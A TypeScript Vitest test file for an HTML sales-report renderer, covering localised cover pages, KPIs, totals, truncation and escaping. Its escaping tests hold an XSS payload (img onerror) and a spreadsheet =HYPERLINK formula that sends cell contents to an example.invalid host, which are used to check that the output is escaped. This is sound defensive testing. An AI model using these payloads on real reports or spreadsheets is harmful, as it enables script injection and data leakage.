import { describe, expect, it } from 'vitest';

import { renderHtml, type ReportColumn, type ReportRow, writeHtml } from '../../../src/reports/render/index.js';
import { FORMULA_TRIGGER_CHARACTERS } from '../../../src/reports/render/values/formula-guard.js';
import { injectionDocument, singleSectionDocument, timezoneDocument } from './support/fixtures.js';
import { renderToBuffer } from './support/output-sink.js';
import { showcaseDocument } from './support/showcase.js';

describe('renderHtml page', () => {
  it('is self-contained with no script or remote reference', async () => {
    const html = await renderHtml(showcaseDocument());
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<link|@import|@font-face|url\(|src=|href=/i);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`);
    expect(html).toMatch(/font-family: "Noto Sans CJK SC", [^;]*"PingFang SC", [^;]*"Microsoft YaHei"/);
    expect(html).toContain('@media print');
  });

  it('writeHtml streams the same page', async () => {
    const written = await renderToBuffer((out) => writeHtml(showcaseDocument(), out));
    expect(written.toString('utf8')).toBe(await renderHtml(showcaseDocument()));
  });

  it('shows the cover in the chosen language', async () => {
    const cases = [
      { language: 'zh-CN' as const, expected: ['<html lang="zh-CN">', '<h1>月度门店销售汇总</h1>', '<dt>统计期间</dt><dd>2024-01-01 至 2024-02-01</dd>', '<dt>生成时间</dt><dd>2024-02-01 09:00:00</dd>'] },
      { language: 'en' as const, expected: ['<html lang="en">', '<h1>Monthly store sales summary</h1>', '<dt>Period</dt><dd>2024-01-01 to 2024-02-01</dd>', '<dt>Generated at</dt><dd>2024-02-01 09:00:00</dd>'] },
    ];
    for (const { language, expected } of cases) {
      const html = await renderHtml(timezoneDocument({ language }));
      for (const fragment of expected) expect(html).toContain(fragment);
    }
  });

  it('shows a missing KPI as a dash with its note', async () => {
    const html = await renderHtml(showcaseDocument());
    expect(html).toContain(
      '<div class="kpi" data-kpi="sales_per_labour_hour"><div class="kpi-label">人效</div>' +
        '<div class="kpi-value missing" title="无数据">—</div><div class="kpi-note">人效需要工时数据，本期间未导入工时。</div></div>',
    );
    expect(html).toContain('<li class="note-warning">注意：1月缺少工时数据，因此不显示人效。</li>');
  });

  it('writes values in the table by column type', async () => {
    const html = await renderHtml(timezoneDocument());
    expect(html).toContain('<tr><td>0001</td><td>2024-01-31</td><td>2024-01-31 23:30</td><td class="num">1,280.50</td></tr>');
    expect(html).toContain('<tr><td>0002</td><td>2024-02-01</td><td>2024-02-01 00:10</td><td class="num">356.00</td></tr>');
  });

  it('marks negative amounts and shows totals', async () => {
    const html = await renderHtml(showcaseDocument());
    expect(html).toContain('<td class="num negative">-456.00</td>');
    expect(html).toContain('<tfoot><tr><td>合计</td><td class="empty">—</td><td class="num">319,294.50</td>');
  });

  it('shortens long tables and says so', async () => {
    const columns: ReportColumn[] = [{ key: 'n', type: 'integer', label: { en: 'N', 'zh-CN': '数' } }];
    const rows: ReportRow[] = Array.from({ length: 25 }, (_, index) => ({ n: index }));
    const html = await renderHtml(singleSectionDocument(columns, rows), { maxRowsPerSection: 10 });
    expect(html.match(/<tr><td class="num">/g)).toHaveLength(10);
    expect(html).toContain('The table and charts show the first 10 of 25 rows. Export to XLSX or CSV for every row.');
  });

  it('says when a section has no rows', async () => {
    const columns: ReportColumn[] = [{ key: 'n', type: 'integer', label: { en: 'N', 'zh-CN': '数' } }];
    expect(await renderHtml(singleSectionDocument(columns, []))).toContain('<p class="notice">No rows for this period.</p>');
  });
});

describe('renderHtml escaping', () => {
  const hostile = `<img src=x onerror="alert('x')">&amp;`;
  const escaped = '&lt;img src=x onerror=&quot;alert(&#39;x&#39;)&quot;&gt;&amp;amp;';

  it('escapes every text the document supplies', async () => {
    const text = { en: hostile, 'zh-CN': hostile };
    const columns: ReportColumn[] = [
      { key: 'label', type: 'text', label: text },
      { key: 'value', type: 'integer', label: text },
    ];
    const document = singleSectionDocument(columns, [{ label: hostile, value: 1 }], {
      name: text,
      notes: [{ text }],
      charts: [
        { kind: 'bar', title: text, categoryColumn: 'label', seriesColumns: ['value'] },
        { kind: 'line', title: text, categoryColumn: 'label', seriesColumns: ['value'] },
        { kind: 'donut', title: text, categoryColumn: 'label', seriesColumns: ['value'] },
      ],
    });
    const html = await renderHtml({
      ...document,
      title: text,
      subtitle: text,
      notes: [{ text }],
      kpis: [{ key: 'k', type: 'text', label: text, value: hostile, note: text }],
      parameters: { ...document.parameters, generatedBy: hostile, stores: [{ code: hostile, name: hostile }] },
    });

    expect(html).not.toContain('<img');
    expect(html).not.toContain("alert('x')");
    // Title, subtitle, cover, KPI, notes, section name, header, cell, chart titles, legends, tooltips.
    expect(html.split(escaped).length - 1).toBeGreaterThanOrEqual(20);
  });

  it.each(FORMULA_TRIGGER_CHARACTERS.map((trigger) => ({ trigger })))('shows text starting with $trigger as written', async ({ trigger }) => {
    const columns: ReportColumn[] = [{ key: 'value', type: 'text', label: { en: 'V', 'zh-CN': '值' } }];
    const value = `${trigger}SUM(1,2)`;
    const html = await renderHtml(singleSectionDocument(columns, [{ value }]));
    expect(html).toContain(`<td>${value}</td>`);
  });

  it('shows the field case values unchanged', async () => {
    const html = await renderHtml(injectionDocument());
    expect(html).toContain('<td>=HYPERLINK(&quot;http://example.invalid/?x=&quot;&amp;A1,&quot;点我&quot;)</td>');
    expect(html).toContain('<td class="num negative">-36.00</td>');
    expect(html).toContain('<td>+86 13800000000</td>');
  });
});
